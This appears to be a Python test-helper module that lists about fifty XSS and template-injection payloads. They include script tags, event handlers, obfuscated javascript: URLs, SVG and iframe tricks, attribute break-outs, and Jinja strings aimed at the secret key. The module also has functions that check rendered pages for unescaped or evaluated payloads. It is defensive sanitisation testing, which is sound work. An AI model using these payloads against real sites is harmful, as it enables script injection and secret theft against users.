"""Hostile strings for every free-text field, and the checks a rendered page must pass.

The corpus is what a malicious or careless user (or a copy-paste from elsewhere) puts into a
name, a reply, a comment or a reason: script tags, event handlers, dangerous URL schemes (with
entity, whitespace and case tricks), SVG, frames, CSS expressions, broken markup, Markdown links
and images, comments/CDATA, attribute break-outs and template-injection strings.
"""
from __future__ import annotations

import html as _html
import re
from urllib.parse import unquote

from lxml import etree
from lxml import html as lxml_html

#: (name, payload). Every payload is at most 200 characters (the longest a user or team name may be).
CORPUS: list[tuple[str, str]] = [
    ("script", "<script>alert('x1')</script>"),
    ("script-src", '<script src="https://evil.example/x.js"></script>'),
    ("script-upper", "<SCRIPT>alert(1)</SCRIPT>"),
    ("script-split", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("img-onerror", '<img src=x onerror="alert(1)">'),
    ("img-onerror-noquotes", "<img src=x onerror=alert(1)//>"),
    ("body-onload", "<body onload=alert(1)>"),
    ("input-autofocus", '<input autofocus onfocus="alert(1)">'),
    ("details-ontoggle", "<details open ontoggle=alert(1)>"),
    ("a-javascript", '<a href="javascript:alert(1)">clic</a>'),
    ("a-javascript-entities", '<a href="&#106;avascript&#58;alert(1)">clic</a>'),
    ("a-javascript-hex", '<a href="&#x6A;&#x61;vascript:alert(1)">clic</a>'),
    ("a-javascript-ws", '<a href=" java\tscript:alert(1)">clic</a>'),
    ("a-javascript-case", "<a href='JaVaScRiPt:alert(1)'>clic</a>"),
    ("a-vbscript", '<a href="vbscript:msgbox(1)">clic</a>'),
    ("a-data", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">clic</a>'),
    ("form-action", '<form action="javascript:alert(1)"><button formaction="javascript:alert(2)">x</button></form>'),
    ("svg-onload", '<svg onload="alert(1)"><circle r="1"/></svg>'),
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-xlink", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'),
    ("iframe", "<iframe src='https://evil.example'></iframe>"),
    ("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    ("object", '<object data="javascript:alert(1)"></object>'),
    ("embed", '<embed src="data:image/svg+xml,<svg onload=alert(1)>">'),
    ("style-expression", '<p style="width:expression(alert(1))">x</p>'),
    ("style-url", '<div style="background:url(javascript:alert(1))">x</div>'),
    ("style-tag", "<style>@import 'https://evil.example/x.css';</style>"),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("base-href", '<base href="https://evil.example/">'),
    ("broken-markup", '<img src="x" onerror="alert(1)"'),
    ("unclosed", "<b><i>sin cerrar <a href='javascript:alert(1)'"),
    ("md-link", "[clic](javascript:alert(1))"),
    ("md-link-entity", "[clic](javas&#99;ript:alert(1))"),
    ("md-link-data", "[clic](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("md-image", "![x](javascript:alert(1))"),
    ("md-image-onerror", '![x" onerror="alert(1)](https://example.com/x.png)'),
    ("md-autolink", "<javascript:alert(1)>"),
    ("md-ref-link", "[clic][r]\n\n[r]: vbscript:msgbox(1)"),
    ("comment", "<!-- <script>alert(1)</script> -->"),
    ("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    ("attr-breakout", '"><img src=x onerror=alert(1)>'),
    ("attr-breakout-single", "'><svg onload=alert(1)>"),
    ("textarea-breakout", "</textarea><script>alert(1)</script>"),
    ("title-breakout", "</title><script>alert(1)</script>"),
    ("template-jinja", "{{7*7777}}"),
    ("template-config", "{{ config.SECRET_KEY }}{{ config }}"),
    ("template-block", "{% for x in range(3) %}Z{{x}}Q{% endfor %}"),
    ("template-dollar", "${7*7777}#{7*7777}"),
]

#: what a template-injection payload would print if it were evaluated
INJECTED_RESULTS = ("54439", "test-secret-key", "<Config", "&lt;Config", "Z0QZ1Q")

PAYLOADS = [payload for _name, payload in CORPUS]
#: everything at once, for the long text fields (lesson bodies, replies, comments, reasons)
ALL = "\n\n".join(PAYLOADS)

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "{http://www.w3.org/1999/xlink}href", "data",
                  "poster", "background", "srcdoc", "codebase", "cite", "longdesc", "usemap", "dynsrc", "lowsrc"}
FORBIDDEN_TAGS = {"iframe", "object", "embed", "frame", "frameset", "applet", "base"}
DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:", "livescript:")
_INVISIBLE = re.compile(r"[\x00-\x20\x7f-\x9f]+")
#: what a browser removes from a URL before reading its scheme (WHATWG URL: C0 controls and spaces at
#: either end, tabs and newlines anywhere)
_URL_EDGES = re.compile(r"^[\x00-\x20]+|[\x00-\x20]+$")
_URL_TABS = re.compile(r"[\t\n\r]")


def dangerous_url(value: str) -> bool:
    """A URL that would run code: the scheme after undoing entities, percent-encoding, whitespace and case."""
    text = value
    for _ in range(3):
        text = unquote(_html.unescape(text))
    text = _URL_TABS.sub("", _URL_EDGES.sub("", text)).lower()
    return text.startswith(DANGEROUS_SCHEMES)


def _local_name(tag) -> str:
    if not isinstance(tag, str):
        return ""
    return tag.rsplit("}", 1)[-1].lower()


def html_problems(body: str, *, where: str = "", payloads=PAYLOADS, check_injection: bool = True) -> list[str]:
    """Everything in an HTML page that hostile input could have put there (empty list: the page is clean).

    - a <script> other than the app's own static files (``/static/...``), anywhere (SVG included);
    - any on* event-handler attribute;
    - href/src/action/formaction/xlink:href/... with a javascript:, vbscript: or data: URL
      (``data:image/...`` only in ``img src``, where the app itself never puts one);
    - an <iframe>, <object>, <embed>, <frame>, <applet> or <base>;
    - a <meta http-equiv=refresh> or an inline style with expression()/url(javascript:);
    - a payload with markup appearing verbatim (unescaped) in the page;
    - a template-injection payload evaluated.
    """
    problems = []
    if not body.strip():
        return problems
    document = lxml_html.document_fromstring(body)
    for element in document.iter():
        tag = _local_name(element.tag)
        if not tag:
            continue  # comments, processing instructions
        if tag == "script":
            src = element.get("src") or ""
            if not src.startswith("/static/") or element.text and element.text.strip():
                problems.append(f"{where}: <script src={src!r}>{(element.text or '')[:60]!r}")
        if tag in FORBIDDEN_TAGS:
            problems.append(f"{where}: <{tag}>")
        if tag == "meta" and (element.get("http-equiv") or "").lower() == "refresh":
            problems.append(f"{where}: <meta http-equiv=refresh>")
        for name, value in element.attrib.items():
            local = _local_name(name)
            if local.startswith("on"):
                problems.append(f"{where}: <{tag} {local}={value[:60]!r}>")
            if (name in URL_ATTRIBUTES or local in URL_ATTRIBUTES) and dangerous_url(value):
                problems.append(f"{where}: <{tag} {local}={value[:60]!r}>")
            if local == "style":
                squashed = _INVISIBLE.sub("", _html.unescape(value)).lower()
                if "expression(" in squashed or "javascript:" in squashed or "url(" in squashed and "data:" in squashed:
                    problems.append(f"{where}: <{tag} style={value[:60]!r}>")
    for payload in payloads:
        if "<" in payload and payload in body:
            problems.append(f"{where}: payload unescaped: {payload[:60]!r}")
    for result in INJECTED_RESULTS if check_injection else ():
        if result in body:
            problems.append(f"{where}: template injection evaluated ({result!r})")
    return problems


def assert_clean(body: str, where: str = "") -> None:
    problems = html_problems(body, where=where)
    assert problems == [], "\n".join(problems)


def parse(body: str):
    """The page as an lxml tree (for tests that look for text)."""
    return lxml_html.document_fromstring(body)


def visible_text(body: str) -> str:
    return " ".join(parse(body).itertext())


__all__ = ["ALL", "CORPUS", "PAYLOADS", "assert_clean", "dangerous_url", "html_problems", "parse", "visible_text", "etree"]
